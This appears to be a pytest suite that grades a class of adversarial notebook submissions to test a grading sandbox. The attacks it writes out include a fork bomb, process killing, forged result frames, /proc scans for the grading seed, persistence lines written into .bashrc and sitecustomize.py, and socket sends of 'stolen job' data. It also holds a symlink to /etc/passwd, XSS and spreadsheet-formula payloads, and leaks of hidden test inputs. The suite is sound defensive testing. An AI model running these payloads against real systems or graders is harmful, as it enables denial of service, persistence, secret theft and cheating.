"""The grader under attack: every class of attack of issue 12, each with at least two
variants, graded in ONE class run per mode, under the real sandbox:

* ``root``: the grader runs as root (as CI does): bubblewrap as root, children on
  unprivileged uids (a block per grader run);
* ``user``: the grader runs as an unprivileged uid. From a root test process the
  grader itself is started under `setpriv --reuid=62500` (a numeric uid, no account
  needed), on a copy of the class and course it owns; when the tests do not run as
  root they already are that user, and the root mode is skipped.

In every class the honest students (correct, wrong, untouched) get exactly the
points they get alone, every attacker gets nothing it did not earn, and
grades.csv, summary.csv and every feedback file are written.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import grading_fixtures as fx
import nbformat
import numpy as np
import pytest

from utils import exercises
from utils.grading._grade import STATUSES, exercise_seed, plan_lesson
from utils.grading._sandbox import FIRST_SANDBOX_UID, SANDBOX_UID_BLOCKS

ROOT = Path(__file__).resolve().parents[1]
IS_ROOT = os.geteuid() == 0
UNPRIVILEGED_UID = 62500
SEED = "adversarial-seed-8675309"
TIMEOUT = 8
CASE_TIMEOUT = 3
LESSON_FILE = fx.lesson_path("solutions", fx.LESSON).name
SHM_KEY = 0x4242_0012
SENTINEL = "sentinel written by the test, never by a submission\n"


# --- the attacks ------------------------------------------------------------------

FRAME = """\
import json, os, struct, sys
def frame(header, body=b""):
    text = json.dumps(header).encode()
    return b"NTG1" + struct.pack(">IQ", len(text), len(body)) + text + body
def forge(data):
    try:
        os.write(int(sys.argv[2]), data)  # the child's results pipe (see _child.main)
    except OSError:
        pass
"""


def forged(payload: str) -> str:
    """A cell that writes `payload` (an expression of bytes) to the results pipe, then
    carries on (the runner then sends its own frames, after the forged ones)."""
    return FRAME + EXERCISE_RECORD + f"forge({payload})\n"


EXERCISE_RECORD = """\
cells = frame({"kind": "cells", "problems": [], "arrays": []})
def exercise(value):
    record = {"status": "ok", "value": value, "warnings": [], "error": "",
              "modified_inputs": [], "value_type": "float"}
    return frame({"kind": "exercise", "phase": "visible", "index": 0, "defined": True,
                  "crash": None, "arrays": [],
                  "outcomes": [{"record": record, "arrays": {}, "timed_out": False}]})
"""

REPORT = """\
def report(**facts):
    shown = " ".join(f"{key}={str(value).replace(' ', '')}" for key, value in facts.items())
    raise RuntimeError("FACTS " + shown)
"""


def report_cell(body: str) -> str:
    """A cell that finds facts inside the sandbox and reports them as its exception."""
    return REPORT + body


SEED_HUNT = """\
import os
found = False
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        found = found or SEED.encode() in data or b"COURSE_GRADING_SEED" in data
found = found or any(SEED in value for value in os.environ.values())
found = found or "COURSE_GRADING_SEED" in os.environ or any(SEED in a for a in sys.argv)
report(
    seed_found=found,
    pids=len([n for n in os.listdir("/proc") if n.isdigit()]),
    uid=os.getuid(),
    caps=[l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0],
)
"""

KILL_GRADER = """\
import os, signal
for target in (os.getppid(), 1):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
"""

NETWORK = """\
import socket
reached = []
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
]:
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(1)
            connection.connect(address)
            connection.sendall(b"stolen job")
            reached.append(address[0])
    except OSError:
        pass
report(reached=reached or None)
"""

ABSTRACT_LISTEN = """\
import socket, threading
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind("\\0course-grading-channel")
server.listen(8)
"""

ABSTRACT_CONNECT = """\
import socket
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect("\\0course-grading-channel")
        connected = True
except OSError:
    connected = False
report(abstract_connected=connected)
"""

SHM = f"""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.restype = ctypes.c_int
segment = libc.shmget(ctypes.c_int({SHM_KEY}), ctypes.c_size_t(1 << 26), 0o1000 | 0o666)
seen = libc.shmget(ctypes.c_int({SHM_KEY + 1}), ctypes.c_size_t(0), 0)
lock = []
for path in ("/run/lock/course-grading-planted", "/dev/shm/course-grading-planted"):
    try:
        open(path, "w").write("left for the next submission")
        lock.append(path)
    except OSError:
        pass
report(created=segment >= 0, other_visible=seen >= 0, wrote=lock or None)
"""

SHM_OTHER = f"""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(ctypes.c_int({SHM_KEY + 1}), ctypes.c_size_t(1 << 20), 0o1000 | 0o666)
seen = libc.shmget(ctypes.c_int({SHM_KEY}), ctypes.c_size_t(0), 0)
import os
report(other_visible=seen >= 0, lock_seen=os.path.exists("/run/lock/course-grading-planted"))
"""

CPU_HOG = """\
import os, time
for _ in range(32):
    if os.fork() == 0:
        try:
            os.setsid()  # a session, hence a CPU share, of its own: refused
        except OSError:
            pass
        while True:
            pass
time.sleep(30)
"""

ESCAPES = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def refused(call):
    try:
        call()
        return False
    except OSError:
        return True
report(
    setsid=refused(os.setsid),
    userns=libc.unshare(0x10000000) != 0,
    subprocess=subprocess.run(["true"]).returncode == 0,
    fork_thread=__import__("threading").Thread(target=lambda: None).start() is None,
)
"""

FORK_BOMB = """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_SPREAD = """\
import os, time
for _ in range(3):  # each within the per-process limit, together over it
    if os.fork() == 0:
        hog = np.ones(50_000_000)
        time.sleep(30)
        os._exit(0)
time.sleep(30)
"""

PROCESS_FLOOD = """\
import subprocess
started = []
try:
    for _ in range(500):
        started.append(subprocess.Popen(["sleep", "30"]))
except OSError:
    pass
report(started=len(started))
"""

WRITE_EVERYWHERE = """\
import glob, os, sys, sysconfig, pathlib, utils
package = pathlib.Path(utils.__file__).parent
targets = [
    os.path.join(sysconfig.get_paths()["purelib"], "zz_course_grading.pth"),
    os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
    str(package / "__pycache__" / "checks.cpython-311.pyc"),
    str(package / "checks.py"),
    str(package.parent / "tests" / "sentinel.txt"),
    str(package.parent / "solutions" / "sentinel.txt"),
    os.path.join(HOME, ".bashrc"),
    os.path.join(HOME, "planted.txt"),
]
written = []
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as file:
            file.write("import os; os.system('echo pwned')\\n")
        written.append(os.path.basename(target))
    except OSError:
        pass
os.makedirs("/tmp/course-grading-x/job-2/results", exist_ok=True)
report(written=written or None)
"""

CHANNEL_HUNT = (
    FRAME
    + """\
import os
hits = 0
for pid in [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]:
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            descriptor = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(descriptor, b"NTG1garbage for whoever reads this")
            hits += 1
        except OSError:
            pass
        finally:
            os.close(descriptor)
"""
)

DEEP_SCRATCH = """\
import os
os.chdir("/tmp" if os.path.isdir("/tmp/work") else ".")
base = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(base)
os.makedirs("locked/inner", exist_ok=True)
open("locked/inner/file", "w").write("x")
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
"""

HIDDEN_LEAK = """\
def scores_above(scores, threshold):
    if hidden(scores):
        raise ValueError(f"LEAK {np.asarray(scores).tolist()} {threshold!r}")
    return np.flatnonzero(scores > threshold)
"""

HIDDEN_LEAK_CLASS = """\
def scores_above(scores, threshold):
    if hidden(scores):
        name = "Leak_" + "_".join(str(int(abs(v) * 1000)) for v in np.asarray(scores)[:6])
        raise type(name, (Exception,), {})(f"LEAK {np.asarray(scores).tolist()}")
    return np.flatnonzero(scores > threshold)
"""

HIDDEN_LEAK_WARNING = """\
import warnings
class Leak(UserWarning):
    pass
def scores_above(scores, threshold):
    if hidden(scores):
        warnings.warn(f"LEAK {np.asarray(scores).tolist()}", Leak)
        return {f"LEAK {np.asarray(scores).tolist()}": threshold}
    return np.flatnonzero(scores > threshold)
"""

HOSTILE_TEXT = "<script>alert(1)</script> [click](javascript:alert(1)) =2+3*cmd"
MARKUP_ANSWER = f"""\
def scores_above(scores, threshold):
    raise ValueError({HOSTILE_TEXT!r})
"""

SLOW_ANSWER = """\
import time
def scores_above(scores, threshold):
    time.sleep(1)
    return np.flatnonzero(scores > threshold)
"""

SLOW_HIDDEN_CASE = """\
import time
def scores_above(scores, threshold):
    if hidden(scores):
        if len(CALLS) == 1:
            time.sleep(60)
        if len(CALLS) == 3:
            while True:
                pass
    return np.flatnonzero(scores > threshold)
"""


VISIBLE_CALLS = len(exercises.get("00.scores_above").check_cases)
VISIBLE_INPUTS = [
    np.asarray(case.args[0]).tolist() for case in exercises.get("00.scores_above").check_cases
]


def with_answer(source: str):
    """The answer cell replaced; `hidden(scores)` in it tells the grader's hidden cases
    from the visible ones (whose inputs are public: they are in the notebook)."""
    helper = (
        f"VISIBLE_INPUTS = {VISIBLE_INPUTS!r}\n"
        "CALLS = []\n"
        "def hidden(scores):\n"
        "    secret = np.asarray(scores).tolist() not in VISIBLE_INPUTS\n"
        "    CALLS.extend([1] if secret else [])\n"
        "    return secret\n"
    )
    return fx.set_answer(fx.correct(), "00_scores_above", helper + source)


def attacks(port: int, home: str) -> dict[str, tuple[object, str]]:
    """student -> (notebook, what the attack expects: 'full', 'zero', 'invalid', ...)."""
    correct = fx.correct
    notebooks = {
        # 1. one cell must not stop the class
        # Ends its process in a cell: that cell is left out, the notebook run again.
        "sig_realtime": (fx.at_end(correct(), "import os\nos.kill(os.getpid(), 40)\n"), "full"),
        "sig_rtmax": (
            with_answer(
                "import os, signal\n"
                "def scores_above(scores, threshold):\n"
                "    if hidden(scores):\n"
                "        os.kill(os.getpid(), signal.SIGRTMAX)\n"
                "    return np.flatnonzero(scores > threshold)\n"
            ),
            "visible_only",
        ),
        "exit_code_leak": (
            with_answer(
                "import os\n"
                "def scores_above(scores, threshold):\n"
                "    if hidden(scores):\n"
                "        os._exit(int(abs(float(np.asarray(scores)[0])) * 1000) % 200 + 7)\n"
                "    return np.flatnonzero(scores > threshold)\n"
            ),
            "visible_only",
        ),
        "sig_stop_self": (
            fx.after_imports(
                correct(), "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
            ),
            # Stopped, it cannot be interrupted: left out and the notebook rerun if the
            # time left allows, else every exercise is a timeout.
            "full_or_timeout",
        ),
        "forge_complex": (
            fx.after_imports(
                correct(),
                forged(
                    "cells + exercise({'type': 'complex', 'real': '0x1.' + 'f' * 400 + 'p1', "
                    "'imag': '0x0.0p+0'})"
                ),
            ),
            "invalid",
        ),
        "forge_float": (
            fx.after_imports(
                correct(), forged("cells + exercise({'type': 'float', 'value': '0x1p99999'})")
            ),
            "invalid",
        ),
        "forge_garbage": (
            fx.after_imports(correct(), forged("bytes(range(256)) * 64")),
            "invalid",
        ),
        "forge_huge": (
            fx.after_imports(correct(), forged("b'NTG1' + struct.pack('>IQ', 2, 1 << 40) + b'{}'")),
            "invalid",
        ),
        "deep_source": (
            fx.after_imports(
                correct(), "(" * 100_000 + ")" * 100_000 + "\n", "-" * 100_000 + "1\n"
            ),
            "full",
        ),
        "deep_scratch": (fx.after_imports(correct(), DEEP_SCRATCH), "full"),
        # 2. results come over the pipe only, bounded
        "channel_hunt": (fx.after_imports(correct(), CHANNEL_HUNT), "own_risk"),
        "huge_result": (
            with_answer(
                "def scores_above(scores, threshold):\n"
                "    if hidden(scores) and len(CALLS) == 1:\n"
                "        return np.zeros(9_000_000)\n"
                "    return np.flatnonzero(scores > threshold)\n"
            ),
            "invalid",
        ),
        "huge_text": (
            fx.after_imports(
                with_answer(
                    "def scores_above(scores, threshold):\n    raise ValueError('x' * 10_000_000)\n"
                ),
                "raise RuntimeError('y' * 10_000_000)\n",
            ),
            "mean_only",
        ),
        # 3. the course, the venv, $HOME and the grader itself are out of reach
        "write_everywhere": (
            fx.after_imports(correct(), f"HOME = {home!r}\n" + report_cell(WRITE_EVERYWHERE)),
            "full",
        ),
        "seed_hunt": (
            fx.after_imports(correct(), f"SEED = {SEED!r}\nimport sys\n" + report_cell(SEED_HUNT)),
            "full",
        ),
        "kill_grader": (fx.after_imports(correct(), KILL_GRADER), "full"),
        "kill_all": (
            fx.at_end(correct(), "import os, signal\nos.kill(-1, signal.SIGKILL)\n"),
            "full",
        ),
        # 4. no network, no IPC left behind, a fair CPU share
        "network": (fx.after_imports(correct(), f"PORT = {port}\n" + report_cell(NETWORK)), "full"),
        "abstract_listen": (
            fx.after_imports(correct(), ABSTRACT_LISTEN + "import time\ntime.sleep(2)\n"),
            "full",
        ),
        "abstract_connect": (fx.after_imports(correct(), report_cell(ABSTRACT_CONNECT)), "full"),
        "shm_a": (
            fx.after_imports(correct(), report_cell(SHM)),
            "invalid",
        ),  # ctypes: reaches into the grading process
        "shm_b": (
            fx.after_imports(correct(), report_cell(SHM_OTHER)),
            "invalid",
        ),  # ctypes: reaches into the grading process
        # Their cell is interrupted or left out (the notebook rerun without it); on a
        # loaded machine the notebook limit may come first.
        "cpu_hog": (fx.after_imports(correct(), CPU_HOG), "full_or_timeout"),
        "escapes": (
            fx.after_imports(correct(), report_cell(ESCAPES)),
            "invalid",
        ),  # ctypes: reaches into the grading process
        "fork_bomb": (fx.after_imports(correct(), FORK_BOMB), "full_or_timeout"),
        "process_flood": (fx.after_imports(correct(), report_cell(PROCESS_FLOOD)), "full"),
        "memory_spread": (fx.after_imports(correct(), MEMORY_SPREAD), "stopped_or_rerun"),
        # 5. nothing of the hidden cases leaks; nothing of the submission is markup
        "leak_message": (with_answer(HIDDEN_LEAK), "visible_only"),
        "leak_class": (with_answer(HIDDEN_LEAK_CLASS), "visible_only"),
        "leak_warning": (with_answer(HIDDEN_LEAK_WARNING), "visible_only"),
        "markup": (
            fx.after_imports(with_answer(MARKUP_ANSWER), f"raise RuntimeError({HOSTILE_TEXT!r})\n"),
            "mean_only",
        ),
        # 6. heavy sources run in the sandbox, under its limits
        "magic_flood": (fx.after_imports(correct(), "%time x = 1\n" * 20_000), "full_or_timeout"),
        # 7. slow but honest
        "slow_answer": (with_answer(SLOW_ANSWER), "full"),
        "slow_cells": (fx.after_imports(correct(), "import time\ntime.sleep(3)\n"), "full"),
        "slow_hidden_case": (with_answer(SLOW_HIDDEN_CASE), "case_timeout"),
        # Interrupted at the per-cell limit (--timeout / 2), the next cells run.
        "endless_cells": (fx.after_imports(correct(), "import time\ntime.sleep(600)\n"), "full"),
    }
    return notebooks


HONEST = {"correct": fx.correct, "wrong": fx.wrong, "untouched": fx.untouched}
STRANGE_NAMES = {
    "formula_equals": "=2+3*cmd",
    "formula_plus": "+SUM(1)",
    "formula_at": "@cmd",
    "markup_name": "<img src=x onerror=alert(1)>",
}


def make_long_path(base: Path) -> tuple[str, ...]:
    """A notebook about 4,000 characters below `base`, made through folder descriptors
    (the whole path is longer than a path the kernel takes in one piece)."""
    parts = ["longpath", *[f"{index:02d}" + "d" * 198 for index in range(19)], "n" * 150 + ".ipynb"]
    descriptor = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for part in parts[:-1]:
            with __import__("contextlib").suppress(FileExistsError):
                os.mkdir(part, dir_fd=descriptor)
            child = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = child
        file = os.open(parts[-1], os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor)
        with os.fdopen(file, "w") as handle:
            handle.write(nbformat.writes(fx.correct()))
    finally:
        os.close(descriptor)
    return tuple(parts)


def build_class(submissions: Path, port: int, home: str) -> dict:
    expectations = {}
    for student, make in HONEST.items():
        fx.write(make(), submissions / student / LESSON_FILE)
    for student, (notebook, expected) in attacks(port, home).items():
        fx.write(notebook, submissions / student / LESSON_FILE)
        expectations[student] = expected
    # Names: a notebook beside a folder with its feedback name, undecodable bytes,
    # a 4,000-character path, folder names a spreadsheet or a browser would run.
    fx.write(fx.correct(), submissions / "collide" / "a.ipynb")
    fx.write(fx.correct(), submissions / "collide" / "a.md" / "b.ipynb")
    fx.write(fx.correct(), submissions / "collide" / "a%2Emd%2Fb.ipynb")
    fx.write(fx.correct(), Path(os.fsdecode(bytes(submissions) + b"/caf\xe9\xff")) / LESSON_FILE)
    make_long_path(submissions)
    for folder in STRANGE_NAMES.values():
        fx.write(fx.correct(), submissions / folder / LESSON_FILE)
    # Files the grader must not read: symlinks out and across, a FIFO, a huge file,
    # folders too deep; and a notebook nested 100,000 deep in its JSON.
    files = submissions / "files"
    fx.write(fx.correct(), files / "real.ipynb")
    os.symlink("/dev/zero", files / "zero.ipynb")
    os.symlink("/etc/passwd", files / "passwd.ipynb")
    os.symlink(submissions / "correct" / LESSON_FILE, files / "copied.ipynb")
    os.symlink(files / "real.ipynb", files / "own_link.ipynb")
    (files / "sub").mkdir()
    os.symlink(files / "sub", files / "linked_folder")
    os.mkfifo(files / "fifo.ipynb")
    with open(files / "huge.ipynb", "wb") as file:
        file.truncate(60 * 2**20)
    fx.write_bytes(b"print('my answers')\n", submissions / "nothing" / "answers.py")
    fx.write(fx.correct(), submissions / "nothing" / ".ipynb_checkpoints" / "x-checkpoint.ipynb")
    (submissions / "empty_folder").mkdir()
    deep = files.joinpath(*["deeper"] * 30)
    fx.write(fx.correct(), deep / "deep.ipynb")
    fx.write_bytes(
        b'{"cells": [], "metadata": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        files / "nested.ipynb",
    )
    return expectations


# --- running it --------------------------------------------------------------------


def copy_course(destination: Path) -> Path:
    shutil.copytree(ROOT / "utils", destination / "utils")
    for folder in ("tests", "solutions"):
        (destination / folder).mkdir()
        (destination / folder / "sentinel.txt").write_text(SENTINEL)
    return destination


def tree_digest(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def site_packages_listing() -> list[str]:
    import sysconfig

    return sorted(os.listdir(sysconfig.get_paths()["purelib"]))


def unprivileged_prefix(uid: int) -> list[str]:
    """Run a command as `uid`; where the Python installation sits below a folder that
    uid cannot enter (e.g. /root/.pyenv), show it that folder read-only, nothing else."""
    needed = sorted(
        {os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix), str(ROOT / ".venv")}
    )
    command = ["bwrap", "--dev-bind", "/", "/"]
    covered, made = set(), set()
    for path in needed:
        chain = [*[str(parent) for parent in reversed(Path(path).parents)][1:], path]
        blocked = next((d for d in chain if not os.stat(d).st_mode & stat.S_IXOTH), None)
        if blocked is None or blocked == path:
            continue
        if blocked not in covered:
            command += ["--perms", "0755", "--tmpfs", blocked]
            covered.add(blocked)
        for directory in chain[chain.index(blocked) + 1 : -1]:
            if directory not in made:
                command += ["--perms", "0755", "--dir", directory]
                made.add(directory)
        command += ["--ro-bind", path, path]
    setpriv = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--"]
    return [*command, "--", *setpriv] if len(command) > 4 else setpriv


def shm_keys() -> set[int]:
    try:
        lines = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    except OSError:
        return set()
    return {int(line.split()[0]) & 0xFFFFFFFF for line in lines if line.split()}


@pytest.fixture(scope="module", params=["root", "user"])
def attacked(request):
    mode = request.param
    if mode == "root" and not IS_ROOT:
        pytest.skip("the root mode needs the tests to run as root (CI does)")
    base = Path(tempfile.mkdtemp(prefix="grading-attacks-", dir="/tmp"))
    os.chmod(base, 0o755)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    try:
        course = copy_course(base / "course")
        home = base / "home"
        home.mkdir()
        (home / ".bashrc").write_text(SENTINEL)
        submissions, out = base / "submissions", base / "out"
        expectations = build_class(submissions, listener.getsockname()[1], str(home))
        out.mkdir()
        old = out / "grades.csv"
        old.write_text("student,points\nleft,1\n")
        os.chmod(old, 0o644)
        before = {
            "course": tree_digest(course),
            "site": site_packages_listing(),
            "shm": shm_keys(),
        }
        environment = {
            key: value for key, value in os.environ.items() if key != "COURSE_GRADING_SEED"
        }
        environment["HOME"] = str(home)
        prefix = []
        arguments = ["--seed", SEED]
        if mode == "root":
            environment["COURSE_GRADING_SEED"] = SEED  # not on the command line
            arguments = []
        elif IS_ROOT:
            subprocess.run(
                ["chown", "-R", "-h", f"{UNPRIVILEGED_UID}:{UNPRIVILEGED_UID}", base], check=True
            )
            prefix = unprivileged_prefix(UNPRIVILEGED_UID)
        command = [
            *prefix,
            sys.executable,
            "-m",
            "utils.grading",
            str(submissions),
            "--out",
            str(out),
            "--jobs",
            "2",
            "--timeout",
            str(TIMEOUT),
            "--case-timeout",
            str(CASE_TIMEOUT),
            "--memory-mb",
            "1024",
            *arguments,
        ]
        grader = subprocess.Popen(
            command,
            cwd=course,
            env=environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        seen_running = 0  # shows the leftover check below can see sandbox processes at all
        while True:
            try:
                stdout, stderr = grader.communicate(timeout=1)
                break
            except subprocess.TimeoutExpired:
                seen_running = max(seen_running, len(fx.sandbox_processes(course)))
        result = subprocess.CompletedProcess(command, grader.returncode, stdout, stderr)
        try:
            connection, _ = listener.accept()
            connection.close()
            reached_listener = True
        except BlockingIOError:
            reached_listener = False
        yield {
            "mode": mode,
            "base": base,
            "course": course,
            "home": home,
            "submissions": submissions,
            "out": out,
            "result": result,
            "expectations": expectations,
            "before": before,
            "reached_listener": reached_listener,
            "after": {"shm": shm_keys(), "processes": fx.sandbox_processes(course)},
            "seen_running": seen_running,
            "rows": read_rows(out),
        }
    finally:
        listener.close()
        subprocess.run(["chmod", "-R", "u+rwx", str(base)], capture_output=True, check=False)
        shutil.rmtree(base, ignore_errors=True)


def read_rows(out: Path) -> dict[str, list[dict]]:
    rows: dict[str, list[dict]] = {}
    path = out / "grades.csv"
    if path.exists():
        with open(path, newline="", encoding="utf-8") as file:
            for row in csv.DictReader(file):
                rows.setdefault(row["student"], []).append(row)
    return rows


def rows_of(attacked, student):
    rows = attacked["rows"].get(student)
    assert rows, f"no rows for {student}: {attacked['result'].stderr[-2000:]}"
    return {row["exercise"]: row for row in rows}


def feedback_files(attacked) -> dict[str, str]:
    folder = attacked["out"] / "feedback"
    return {str(p.relative_to(folder)): p.read_text() for p in folder.rglob("*.md")}


def feedback_of(attacked, student, name=LESSON_FILE) -> str:
    text = (attacked["out"] / "feedback" / student / (name[: -len(".ipynb")] + ".md")).read_text()
    return html.unescape(re.sub(r"\\(.)", r"\1", text))


def facts_of(attacked, student) -> dict[str, str]:
    line = next(
        (line for line in feedback_of(attacked, student).splitlines() if "FACTS " in line), None
    )
    assert line is not None, feedback_of(attacked, student)
    return dict(item.split("=", 1) for item in line.split("FACTS ", 1)[1].split())


POINTS = {spec.id: float(spec.points) for spec in exercises.for_lesson(fx.LESSON)}
VISIBLE_SHARE = round(
    VISIBLE_CALLS
    / (VISIBLE_CALLS + len(plan_lesson(fx.LESSON, SEED, 2.0).hidden["00.scores_above"])),
    2,
)


# --- every class is graded -----------------------------------------------------------


def test_the_attacked_class_is_graded_and_every_file_written(attacked):
    result = attacked["result"]
    assert result.returncode == 0, result.stderr[-3000:]
    out = attacked["out"]
    names = sorted(p.name for p in out.iterdir())
    assert {"feedback", "grades.csv", "summary.csv", "rows.jsonl", "grading.json"} <= set(names)
    assert not [name for name in names if name.startswith(".")], names
    students = set(attacked["rows"])
    assert set(HONEST) | set(attacked["expectations"]) <= students
    with open(out / "summary.csv", newline="", encoding="utf-8") as file:
        summary = {row["student"] for row in csv.DictReader(file)}
    assert summary == students
    # One feedback file per notebook row group, and nothing else.
    notebooks = {
        (row["student"], row["notebook"]) for rows in attacked["rows"].values() for row in rows
    }
    assert len(feedback_files(attacked)) == len(notebooks)


def test_the_gradebook_is_readable_by_its_owner_only(attacked):
    out = attacked["out"]
    for path in [out / "grades.csv", out / "summary.csv", *out.joinpath("feedback").rglob("*")]:
        mode = stat.S_IMODE(os.lstat(path).st_mode)
        assert mode & 0o077 == 0, (path, oct(mode))
    assert "left,1" not in (out / "grades.csv").read_text()  # the old world-readable one is gone


def test_honest_students_keep_their_exact_points(attacked):
    for exercise_id, row in rows_of(attacked, "correct").items():
        assert (row["status"], float(row["points"])) == ("passed", POINTS[exercise_id])
    for row in rows_of(attacked, "untouched").values():
        assert (row["status"], float(row["points"])) == ("not_attempted", 0.0)
    wrong = rows_of(attacked, "wrong")
    spec = exercises.get("00.scores_above")
    plan = plan_lesson(fx.LESSON, SEED, 2.0)
    cases = (*plan.visible[spec.id], *plan.hidden[spec.id])
    passed = sum(
        np.array_equal(fx.wrong_scores_above(*c.args), spec.reference(*c.args)) for c in cases
    )
    assert wrong["00.mean_score"]["points"] == "0"
    assert float(wrong["00.scores_above"]["points"]) == round(spec.points * passed / len(cases), 2)


def expected_points(kind: str) -> dict[str, tuple[set[str], float | None]]:
    """exercise -> (allowed statuses, exact points or None for 'at most the visible share')."""
    full = {name: ({"passed"}, points) for name, points in POINTS.items()}
    if kind == "full":
        return full
    if kind == "own_risk":  # it may break its own channel: anything up to full marks
        return {name: (set(STATUSES), None) for name in POINTS}
    if kind == "full_or_timeout":
        return {name: ({"passed", "timeout"}, None) for name in POINTS}
    if kind in ("invalid",):
        return {name: ({"invalid"}, 0.0) for name in POINTS}
    if kind in ("ended",):
        return {name: ({"error"}, 0.0) for name in POINTS}
    if kind == "stopped":  # by the memory check, or (a slow machine) by the notebook limit
        return {name: ({"error", "timeout"}, 0.0) for name in POINTS}
    if kind == "stopped_or_rerun":  # and its cell left out, the notebook run again without it
        return {name: ({"error", "timeout", "passed"}, None) for name in POINTS}
    if kind == "timeout":
        return {name: ({"timeout"}, 0.0) for name in POINTS}
    if kind == "mean_only":
        return {
            "00.mean_score": ({"passed"}, POINTS["00.mean_score"]),
            "00.scores_above": ({"error"}, 0.0),
        }
    if kind == "visible_only":
        return {
            "00.mean_score": ({"passed"}, POINTS["00.mean_score"]),
            "00.scores_above": ({"partial"}, VISIBLE_SHARE),
        }
    if kind == "case_timeout":  # one sleeping and one endless hidden case: the rest count
        return {
            "00.mean_score": ({"passed"}, POINTS["00.mean_score"]),
            "00.scores_above": ({"partial"}, round(1 - 2 / (VISIBLE_CALLS / VISIBLE_SHARE), 2)),
        }
    raise AssertionError(kind)


ATTACKERS = [
    "sig_realtime",
    "sig_rtmax",
    "exit_code_leak",
    "sig_stop_self",
    "forge_complex",
    "forge_float",
    "forge_garbage",
    "forge_huge",
    "deep_source",
    "deep_scratch",
    "channel_hunt",
    "huge_result",
    "huge_text",
    "write_everywhere",
    "seed_hunt",
    "kill_grader",
    "kill_all",
    "network",
    "abstract_listen",
    "abstract_connect",
    "shm_a",
    "shm_b",
    "cpu_hog",
    "escapes",
    "fork_bomb",
    "process_flood",
    "memory_spread",
    "leak_message",
    "leak_class",
    "leak_warning",
    "markup",
    "magic_flood",
    "slow_answer",
    "slow_cells",
    "slow_hidden_case",
    "endless_cells",
]


def test_every_attack_is_in_the_class(attacked):
    assert sorted(attacked["expectations"]) == sorted(ATTACKERS)


@pytest.mark.parametrize("student", ATTACKERS)
def test_each_attacker_gets_exactly_what_it_earned(attacked, student):
    rows = rows_of(attacked, student)
    assert set(rows) == set(POINTS)
    for exercise_id, (statuses, points) in expected_points(
        attacked["expectations"][student]
    ).items():
        row = rows[exercise_id]
        assert row["status"] in statuses, row
        if points is None:
            assert 0.0 <= float(row["points"]) <= POINTS[exercise_id], row
        else:
            assert float(row["points"]) == points, row
        assert len(row["message"]) < 600, row


# --- 1. what one submission does stays in its rows ------------------------------------


def test_how_a_process_ended_on_hidden_cases_is_not_shown(attacked):
    """The exit code or signal is the answer's choice: on hidden cases it could carry
    their inputs, so the feedback says only that the process ended."""
    message = rows_of(attacked, "exit_code_leak")["00.scores_above"]["message"]
    assert "how it ended is not shown for hidden cases" in message
    assert not re.search(r"\d{2,}", message.split("(")[0]), message
    shown = feedback_of(attacked, "exit_code_leak")
    assert "exited with code" not in shown
    assert "ended by" not in shown


def test_signals_are_named_even_without_a_python_name(attacked):
    assert "ended the notebook's process (it was ended by SIGRTMIN+6" in feedback_of(
        attacked, "sig_realtime"
    )
    hidden_end = rows_of(attacked, "sig_rtmax")["00.scores_above"]["message"]
    assert "how it ended is not shown for hidden cases" in hidden_end
    assert "SIG" not in hidden_end
    assert "code" not in hidden_end
    for row in rows_of(attacked, "sig_stop_self").values():
        assert row["status"] == "passed" or "--timeout" in row["message"], row


@pytest.mark.parametrize("student", ["forge_complex", "forge_float", "forge_garbage", "forge_huge"])
def test_forged_results_make_only_the_forger_invalid(attacked, student):
    for row in rows_of(attacked, student).values():
        assert "does not accept" in row["message"], row


def test_deep_sources_are_the_childs_problem_and_recorded(attacked):
    feedback = feedback_of(attacked, "deep_source")
    assert feedback.count("- cell ") >= 2, feedback
    assert "nested" in feedback or "Recursion" in feedback or "Memory" in feedback


def test_odd_names_are_graded_with_safe_distinct_feedback_files(attacked):
    notebooks = {row["notebook"] for row in attacked["rows"]["collide"]}
    assert notebooks == {"a.ipynb", "a.md/b.ipynb", "a%2Emd%2Fb.ipynb"}
    for row in attacked["rows"]["collide"]:
        assert row["status"] == "passed", row
